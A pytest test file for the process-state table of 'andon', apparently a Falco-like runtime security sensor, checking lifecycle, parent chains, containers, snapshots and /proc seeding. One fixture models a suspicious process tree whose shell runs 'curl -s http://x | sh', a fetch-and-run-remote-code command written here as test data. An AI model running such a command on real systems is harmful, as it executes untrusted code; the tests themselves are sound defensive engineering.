"""The process table: lifecycle from synthetic events, Falco's parent-chain fields, bounds,
snapshot/restore, and seeding from this very process's /proc entry."""

from __future__ import annotations

import json
import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from andon.events.schema import Event, EventType, ExecInfo
from andon.events.syscalls import BY_NAME
from andon.state.container import ContainerInfo, ContainerRegistry, ContainerSettings
from andon.state.fd import FdInfo
from andon.state.process import Process, ProcessTable, StateSettings

CID = "a" * 12 + "0123456789abcdef" * 3 + "b" * 4
assert len(CID) == 64
SEC = 1_000_000_000


class Clock:
    def __init__(self) -> None:
        self.now = 1_700_000_000 * SEC

    def tick(self, ns: int = 1000) -> int:
        self.now += ns
        return self.now


@pytest.fixture
def clk() -> Clock:
    return Clock()


def offline(**kw) -> StateSettings:
    return StateSettings(proc_root=None, **kw)


def exec_ev(clk: Clock, pid: int, argv: list[str], *, comm: str | None = None, ppid: int = 1, cwd: str = "/",
            uid: int = 0, ruid: int | None = None, sid: int = 0, tty: int = 0, cgroup: str = "", cgroup2: str = "",
            vpid: int | None = None, pidns: int = 4026531836, exepath: str | None = None) -> Event:  # fmt: skip
    x = ExecInfo(
        cap_effective=0x1FFFFFFFFFF if uid == 0 else 0, cap_permitted=0, start_time=pid * 1000, exe_ctime=0,
        exe_mtime=0, ppid=ppid, ruid=uid if ruid is None else ruid, rgid=0, loginuid=1000, tty=tty,
        sid=sid or pid, vpid=pid if vpid is None else vpid, pidns=pidns, mntns=1, netns=1, exe_flags=0,
        exepath=exepath or argv[0], filename=argv[0], cwd=cwd, cgroup=cgroup, cgroup2=cgroup2, argv=argv,
    )  # fmt: skip
    name = comm or os.path.basename(argv[0])[:15]
    return Event(clk.tick(), EventType.EXEC, 0, pid, pid, uid, 0, 77, 0, (pid, 0, 0, 0, 0, 0), name, exec=x)


def fork_ev(clk: Clock, parent: int, child: int, *, tid: int | None = None, comm: str = "parent") -> Event:
    t = clk.tick()
    return Event(t, EventType.FORK, 0, parent, parent, 0, 0, 77, 0, (tid or child, child, child * 1000, 0, 0, 0), comm)


def exit_ev(clk: Clock, pid: int, *, tid: int | None = None, last: bool = True, status: int = 0,
            ns: int = 1000) -> Event:  # fmt: skip
    return Event(clk.tick(ns), EventType.EXIT, 0, pid, tid or pid, 0, 0, 77, status, (int(last), 0, 0, 0, 0, 0), "x")


def sc(clk: Clock, name: str, pid: int, ret: int, *args: int, strings: tuple[str, ...] = (), uid: int = 0, gid: int = 0,
       tid: int | None = None) -> Event:  # fmt: skip
    a = tuple(args) + (0,) * (6 - len(args))
    nr = BY_NAME[name].nr
    return Event(clk.tick(), EventType.SYSCALL, nr, pid, tid or pid, uid, gid, 77, ret, a, "x", strings=strings)


def shell_tree(clk: Clock, t: ProcessTable) -> None:
    """init(1) -> sshd(100) -> bash(200, session leader, tty) -> sh(300) -> curl(400)."""
    t.apply(exec_ev(clk, 1, ["/sbin/init", "splash"], comm="systemd", ppid=0, sid=1,
                    exepath="/usr/lib/systemd/systemd"))  # fmt: skip
    t.apply(fork_ev(clk, 1, 100))
    t.apply(exec_ev(clk, 100, ["/usr/sbin/sshd", "-D"], sid=100))
    t.apply(fork_ev(clk, 100, 200))
    t.apply(exec_ev(clk, 200, ["-bash"], comm="bash", ppid=100, sid=200, tty=34816, cwd="/root",
                    exepath="/usr/bin/bash"))  # fmt: skip
    t.apply(fork_ev(clk, 200, 300, comm="bash"))
    t.apply(exec_ev(clk, 300, ["/bin/sh", "-c", "curl -s http://x | sh"], comm="sh", ppid=200, sid=200,
                    exepath="/usr/bin/dash"))  # fmt: skip
    t.apply(fork_ev(clk, 300, 400, comm="sh"))
    t.apply(exec_ev(clk, 400, ["curl", "-s", "http://x"], ppid=300, sid=200, exepath="/usr/bin/curl"))


# -- exec, fork, the parent chain ---------------------------------------------------------
def test_parent_chain_fields(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    curl = t.get(400)
    assert (curl.name, curl.exe, curl.exepath, curl.args) == ("curl", "curl", "/usr/bin/curl", ("-s", "http://x"))
    assert curl.cmdline == "curl -s http://x"
    par = t.parent(curl)
    assert par.name == "sh"  # proc.pname
    assert par.cmdline == "sh -c curl -s http://x | sh"  # proc.pcmdline
    assert (par.exe, par.exepath) == ("/bin/sh", "/usr/bin/dash")  # proc.pexe, proc.pexepath
    assert [t.ancestor(curl, n).name for n in range(5)] == ["curl", "sh", "bash", "sshd", "systemd"]  # proc.aname[N]
    assert [t.ancestor(curl, n).pid for n in range(5)] == [400, 300, 200, 100, 1]  # proc.apid[N]
    assert t.ancestor(curl, 4).exepath == "/usr/lib/systemd/systemd"  # proc.aexepath[4]
    assert t.ancestor(curl, 5) is None
    assert t.session_leader(curl).name == "bash"  # proc.sname
    assert t.get(200).tty == 34816 and t.get(200).proc_cwd == "/root/"


def test_session_leader_falls_back_to_eldest_ancestor_in_session(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    t.apply(fork_ev(clk, 1, 50))
    t.apply(exit_ev(clk, 200))  # bash, whose pid is the session id, exits
    t.apply(exit_ev(clk, 50, ns=10 * SEC))  # and later leaves the grace list
    assert t.get(200) is None
    # sh was reparented to init (session 1): it is now the eldest of session 200
    assert t.parent(t.get(300)).name == "systemd"
    assert t.session_leader(t.get(400)).name == "sh"


def test_exec_replaces_image_keeps_pid_parent_and_fds(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    t.apply(sc(clk, "openat", 300, 3, 2**64 - 100, 0, 0o2000000, strings=("/etc/ld.so.cache",)))  # O_CLOEXEC
    t.apply(sc(clk, "openat", 300, 4, 2**64 - 100, 0, 0, strings=("script.sh",)))
    t.apply(exec_ev(clk, 300, ["python3", "app.py"], ppid=200, sid=200, cwd="/opt/app", exepath="/usr/bin/python3.11"))
    p = t.get(300)
    assert (p.name, p.exe, p.args) == ("python3", "python3", ("app.py",))
    assert (p.exepath, p.cwd) == ("/usr/bin/python3.11", "/opt/app")
    assert p.ppid == 200 and t.parent(p).name == "bash"
    assert sorted(p.fds) == [4] and p.fds[4].name == "/script.sh"


def test_fork_copies_parent_and_threads_share_entry(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    n = len(t)
    t.apply(fork_ev(clk, 400, 400, tid=401, comm="curl"))  # a thread
    assert len(t) == n and t.thread(401) is t.get(400) and t.get(400).nthreads == 2
    t.apply(fork_ev(clk, 400, 500, comm="curl"))  # a process
    c = t.get(500)
    assert len(t) == n + 1
    assert (c.ppid, c.name, c.exe, c.args, c.cwd, c.sid) == (400, "curl", "curl", ("-s", "http://x"), "/", 200)
    assert c.start_time == 500 * 1000 and c.vpid == 500
    # a thread exiting leaves the process; the last thread takes it
    t.apply(exit_ev(clk, 400, tid=401, last=False))
    assert t.thread(401) is None and 401 not in t.tids and t.get(400).alive
    t.apply(exit_ev(clk, 400, last=True))
    assert 400 not in t and not t.get(400).alive


def test_main_thread_exit_first_keeps_process(clk):
    t = ProcessTable(offline())
    t.apply(exec_ev(clk, 10, ["/srv/daemon"]))
    t.apply(fork_ev(clk, 10, 10, tid=11))
    t.apply(exit_ev(clk, 10, tid=10, last=False))  # pthread_exit in main
    assert 10 in t
    t.apply(exit_ev(clk, 10, tid=11, last=True))
    assert 10 not in t and 11 not in t.tids


def test_exec_from_thread_drops_other_threads(clk):
    t = ProcessTable(offline())
    t.apply(exec_ev(clk, 10, ["/srv/daemon"]))
    t.apply(fork_ev(clk, 10, 10, tid=11))
    t.apply(fork_ev(clk, 10, 10, tid=12))
    t.apply(exec_ev(clk, 10, ["/bin/true"]))
    assert t.get(10).threads is None and not t.tids


# -- exit grace, reparenting, bounds ------------------------------------------------------
def test_exit_grace_then_gone(clk):
    t = ProcessTable(offline(exit_grace_ns=2 * SEC))
    shell_tree(clk, t)
    t.apply(exit_ev(clk, 400, status=256))
    p = t.get(400)
    assert p is not None and p.exit_status == 256 and 400 not in t
    # a late event of the exited process resolves, and does not bring it back to life
    late = sc(clk, "close", 400, 0, 5)
    t.apply(late)
    assert t.for_event(late) is p and 400 not in t
    t.apply(exit_ev(clk, 300, ns=1 * SEC))
    assert t.get(400) is not None
    t.apply(exit_ev(clk, 200, ns=2 * SEC))  # 3 s after curl's exit
    assert t.get(400) is None and t.get(300) is not None


def test_exited_list_is_bounded_and_counted(clk):
    t = ProcessTable(offline(max_exited=8))
    t.apply(exec_ev(clk, 1, ["/sbin/init"], ppid=0))
    for pid in range(1000, 1020):
        t.apply(fork_ev(clk, 1, pid))
        t.apply(exit_ev(clk, pid))
    assert len(t.exited) == 8 and t.stats["exited_dropped"] == 12
    assert t.get(1019) is not None and t.get(1000) is None


def test_pid_reuse_drops_exited_entry(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    t.apply(exit_ev(clk, 400))
    t.apply(fork_ev(clk, 300, 400, comm="sh"))
    p = t.get(400)
    assert p.alive and p.ppid == 300 and p.name == "sh"


def test_orphans_go_to_subreaper_or_init(clk):
    t = ProcessTable(offline())
    shell_tree(clk, t)
    t.apply(sc(clk, "prctl", 200, 0, 36, 1))  # bash: PR_SET_CHILD_SUBREAPER
    t.apply(exit_ev(clk, 300))
    assert t.get(400).ppid == 200 and 400 in t.get(200).children
    assert t.parent(t.get(400)).name == "bash"
    t.apply(exit_ev(clk, 200))
    assert t.get(400).ppid == 1 and t.parent(t.get(400)).name == "systemd"
    assert t.stats["reparented"] == 2


def test_eviction_is_bounded_and_counted(clk):
    t = ProcessTable(offline(max_processes=64))
    t.apply(exec_ev(clk, 1, ["/sbin/init"], ppid=0))
    for pid in range(2, 202):
        t.apply(fork_ev(clk, 1, pid))
    assert len(t) <= 64
    assert t.stats["evicted"] >= 200 + 1 - 64
    assert 1 in t  # init, the parent of everyone, is never the victim
    assert 201 in t  # the newest survive


def test_unknown_pid_is_made_from_the_event_header(clk):
    t = ProcessTable(offline())
    ev = sc(clk, "openat", 777, 3, 2**64 - 100, 0, 0, strings=("/etc/passwd",), uid=33, gid=33, tid=778)
    t.apply(ev)
    p = t.get(777)
    assert (p.name, p.uid, p.gid) == ("x", 33, 33) and t.thread(778) is p
    assert p.fds[3].name == "/etc/passwd"  # no cwd needed for an absolute path
    assert t.stats["synthesized"] == 1


# -- syscalls that change the process ---------------------------------------------------------
def test_setuid_family(clk):
    t = ProcessTable(offline())
    t.apply(exec_ev(clk, 50, ["/usr/sbin/sshd"]))
    t.apply(sc(clk, "setresuid", 50, 0, 1000, 1000, 1000, uid=1000))
    p = t.get(50)
    assert (p.uid, p.ruid) == (1000, 1000)
    t.apply(sc(clk, "setreuid", 50, -1, 2**32 - 1, 0, uid=1000))  # failed: nothing changes
    t.apply(sc(clk, "setreuid", 50, 0, 2**32 - 1, 1001, uid=1001))  # -1 keeps the real uid
    assert (p.uid, p.ruid) == (1001, 1000)
    t.apply(sc(clk, "setresgid", 50, 0, 50, 50, 50, gid=50))
    assert (p.gid, p.rgid) == (50, 50)
    t.apply(exec_ev(clk, 60, ["/bin/su"]))
    t.apply(sc(clk, "setuid", 60, 0, 33, uid=33))  # privileged setuid sets every id
    assert (t.get(60).uid, t.get(60).ruid) == (33, 33)


def test_chdir_fchdir_setsid(clk):
    t = ProcessTable(offline())
    t.apply(exec_ev(clk, 50, ["/bin/sh"], cwd="/home/u", sid=7))
    p = t.get(50)
    t.apply(sc(clk, "chdir", 50, 0, 0, strings=("../../tmp/./x",)))
    assert p.cwd == "/tmp/x" and p.proc_cwd == "/tmp/x/"
    t.apply(sc(clk, "chdir", 50, -2, 0, strings=("/nope",)))
    assert p.cwd == "/tmp/x"
    t.apply(sc(clk, "openat", 50, 5, 2**64 - 100, 0, 0o200000, strings=("/var/lib",)))
    t.apply(sc(clk, "fchdir", 50, 0, 5))
    assert p.cwd == "/var/lib"
    t.apply(sc(clk, "openat", 50, 6, 2**64 - 100, 0, 0, strings=("db",)))
    assert p.fds[6].name == "/var/lib/db"
    t.apply(sc(clk, "setsid", 50, 50))
    assert p.sid == 50 and t.session_leader(p) is p


# -- containers ------------------------------------------------------------------------------
def test_container_from_exec_cgroup_and_inheritance(clk):
    reg = ContainerRegistry(ContainerSettings(lookups=False))
    t = ProcessTable(offline(), containers=reg)
    t.apply(exec_ev(clk, 1, ["/sbin/init"], ppid=0))
    t.apply(fork_ev(clk, 1, 900))
    t.apply(exec_ev(clk, 900, ["/usr/bin/conmon"], cgroup="libpod-conmon-" + CID))
    assert t.get(900).container_id == "host"
    t.apply(fork_ev(clk, 900, 901))
    t.apply(exec_ev(clk, 901, ["/bin/sh"], ppid=900, cgroup="libpod-" + CID, cgroup2="libpod-" + CID, vpid=1, pidns=99))
    p = t.get(901)
    assert (p.container, p.container_id, p.runtime, p.cgroup) == (CID, CID[:12], "podman", "libpod-" + CID)
    assert t.pidns_init(p) is p
    t.apply(fork_ev(clk, 901, 902))
    assert t.get(902).container_id == CID[:12]  # fork inherits
    # a nested cgroup leaf that names no container keeps the container (offline: no /proc)
    t.apply(exec_ev(clk, 902, ["/bin/true"], ppid=901, cgroup="container", cgroup2="container", vpid=2, pidns=99))
    assert t.get(902).container_id == CID[:12] and t.pidns_init(t.get(902)).pid == 901
    assert t.cgroup_containers[77] == CID
    assert reg.get(CID) is not None and not reg.get(CID).resolved  # known id, no runtime asked


def test_unknown_pid_in_known_container_cgroup(clk):
    t = ProcessTable(offline())
    t.apply(exec_ev(clk, 901, ["/bin/sh"], cgroup2="libpod-" + CID))
    t.apply(sc(clk, "close", 950, 0, 3))  # same cgroup id (77) as the exec
    assert t.get(950).container == CID


# -- snapshot / restore --------------------------------------------------------------------------
def test_snapshot_restore_roundtrip(clk):
    reg = ContainerRegistry(ContainerSettings(lookups=False))
    reg.add(ContainerInfo(CID, "podman", name="web", image="localhost/andon-test:bookworm", resolved=True))
    t = ProcessTable(offline(), boot_offset=123, containers=reg)
    shell_tree(clk, t)
    t.apply(fork_ev(clk, 400, 400, tid=401))
    t.apply(sc(clk, "openat", 400, 3, 2**64 - 100, 0, 0, strings=("out.html",)))
    t.apply(exit_ev(clk, 100))  # one exited entry in the grace list
    snap = json.loads(json.dumps(t.snapshot()))  # must be JSON-able
    reg2 = ContainerRegistry(ContainerSettings(lookups=False))
    r = ProcessTable.restore(snap, offline(), containers=reg2)
    curl = r.get(400)
    assert [r.ancestor(curl, n).name for n in range(4)] == ["curl", "sh", "bash", "systemd"]
    assert r.session_leader(curl).name == "bash" and r.thread(401) is curl
    assert r.fd_info(400, 3).name == "/out.html" and r.boot_offset == 123
    assert r.get(100) is not None and not r.get(100).alive
    assert reg2.get(CID).name == "web"
    assert r.snapshot() == snap
    # and the restored table keeps working
    r.apply(exit_ev(clk, 300))
    assert r.get(400).ppid == 1


def test_restore_rejects_other_versions():
    from andon.errors import CaptureError

    with pytest.raises(CaptureError):
        ProcessTable.restore({"version": 999}, offline())


# -- seeding from /proc --------------------------------------------------------------------------
def test_seed_this_process(tmp_path: Path):
    # known things about ourselves, opened before the scan
    f = open(tmp_path / "seed-probe.txt", "w")  # noqa: SIM115
    os.set_inheritable(f.fileno(), True)  # clear O_CLOEXEC on this one
    d = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    cli = socket.create_connection(("127.0.0.1", port))
    acc, _ = srv.accept()
    ux = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    upath = str(tmp_path / "probe.sock")
    ux.bind(upath)
    ux.listen(1)
    stop = threading.Event()
    th = threading.Thread(target=stop.wait)
    th.start()
    try:
        t = ProcessTable(StateSettings())
        n = t.seed_from_proc()
        assert n >= 2
        me = t.get(os.getpid())
        assert me is not None
        argv = Path("/proc/self/cmdline").read_bytes().rstrip(b"\0").split(b"\0")
        assert me.exe == argv[0].decode() and list(me.args) == [a.decode() for a in argv[1:]]
        assert me.name == Path("/proc/self/comm").read_text().strip()
        assert me.cmdline == me.name + " " + " ".join(me.args)
        assert me.exepath == os.path.realpath(sys.executable)
        assert me.cwd == os.getcwd()
        assert me.ppid == os.getppid()
        assert (me.uid, me.gid, me.ruid, me.rgid) == (os.geteuid(), os.getegid(), os.getuid(), os.getgid())
        assert me.sid == os.getsid(0)
        assert me.pidns == os.stat("/proc/self/ns/pid").st_ino
        assert me.netns == os.stat("/proc/self/ns/net").st_ino
        assert me.start_time > 0 and me.start_time < time.clock_gettime_ns(time.CLOCK_BOOTTIME)
        assert th.native_id in me.threads and t.thread(th.native_id) is me
        assert t.parent(me) is not None and t.parent(me).pid == os.getppid()
        fi = t.fd_info(os.getpid(), f.fileno())
        assert (fi.type, fi.name, fi.cloexec) == ("file", str(tmp_path / "seed-probe.txt"), False)
        fi = t.fd_info(os.getpid(), d)
        assert (fi.type, fi.typechar, fi.name, fi.cloexec) == ("directory", "d", str(tmp_path), True)
        fi = t.fd_info(os.getpid(), srv.fileno())
        assert (fi.type, fi.role, fi.listening, fi.name) == ("ipv4", "server", True, f"127.0.0.1:{port}")
        cport = cli.getsockname()[1]
        want = f"127.0.0.1:{cport}->127.0.0.1:{port}"
        fi = t.fd_info(os.getpid(), cli.fileno())
        assert (fi.type, fi.l4proto, fi.role, fi.name) == ("ipv4", "tcp", "client", want)
        fi = t.fd_info(os.getpid(), acc.fileno())
        assert (fi.role, fi.name, fi.lport, fi.rport) == ("server", want, port, cport)
        fi = t.fd_info(os.getpid(), ux.fileno())
        assert (fi.type, fi.name, fi.role) == ("unix", upath, "server")
        # a process we can check by hand: our parent's name and command line
        ppid = os.getppid()
        par = t.get(ppid)
        assert par.name == Path(f"/proc/{ppid}/comm").read_text().strip()
    finally:
        stop.set()
        th.join()
        for s in (cli, acc, srv, ux):
            s.close()
        os.close(d)
        f.close()


def test_sweep_drops_processes_gone_from_proc(clk):
    t = ProcessTable(StateSettings())
    t.seed_from_proc()
    ghost = Process(2**22 + 12345)  # above pid_max's default: never a real pid
    t.procs[ghost.pid] = ghost
    assert t.sweep() >= 1 and ghost.pid not in t and os.getpid() in t


def test_load_fallback_for_unknown_live_pid(clk):
    t = ProcessTable(StateSettings())  # empty, but allowed to read /proc
    ev = sc(clk, "close", os.getpid(), 0, 99)
    p = t.for_event(ev)
    assert p.exepath == os.path.realpath(sys.executable) and t.stats["proc_loaded"] == 1


def test_temp_files_are_files():
    # a /proc link of a deleted file still names a file
    with tempfile.TemporaryFile() as tf:
        t = ProcessTable(StateSettings())
        me = t.load_pid(os.getpid())
        fi = me.fds.get(tf.fileno())
        assert fi.type == "file" and fi.name.endswith("(deleted)")


def test_events_older_than_the_proc_read_are_already_in_it(clk):
    # the agent starts the sensor, then reads /proc: ring events from before the read must
    # not be applied a second time on top of what /proc already showed
    t = ProcessTable(offline())
    p = Process(60)
    p.name, p.exe, p.cwd = "nginx", "nginx", "/"
    p.proc_ts = clk.now + 10_000
    p.fds.add(FdInfo(0, "file", "/dev/null"))
    t.procs[60] = p
    t.apply(sc(clk, "dup2", 60, 0, 9, 0))  # before the read: fd 9 was already closed by then
    t.apply(exec_ev(clk, 60, ["/usr/sbin/nginx.old"]))
    assert t.fd_info(60, 0).name == "/dev/null" and p.name == "nginx"
    clk.tick(20_000)  # after the read: applied
    t.apply(sc(clk, "openat", 60, 4, 2**64 - 100, 0, 0, strings=("/etc/nginx.conf",)))
    assert t.fd_info(60, 4).name == "/etc/nginx.conf"
    # a fork event for a child that /proc already showed keeps the /proc entry
    q = Process(61)
    q.name, q.ppid, q.proc_ts, q.start_time = "worker", 60, clk.now + 10_000, 61_000 + 3_000_000
    t.procs[61] = q
    t.apply(fork_ev(clk, 60, 61))
    assert t.get(61) is q and t.stats["stale_replaced"] == 0


def test_zombies_are_not_loaded():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    try:
        deadline = time.monotonic() + 5
        while Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] != "Z":
            assert time.monotonic() < deadline, "child did not become a zombie"
            time.sleep(0.01)
        t = ProcessTable(StateSettings())
        assert t.load_pid(pid) is None
        t.seed_from_proc()
        assert pid not in t and os.getpid() in t
    finally:
        os.waitpid(pid, 0)
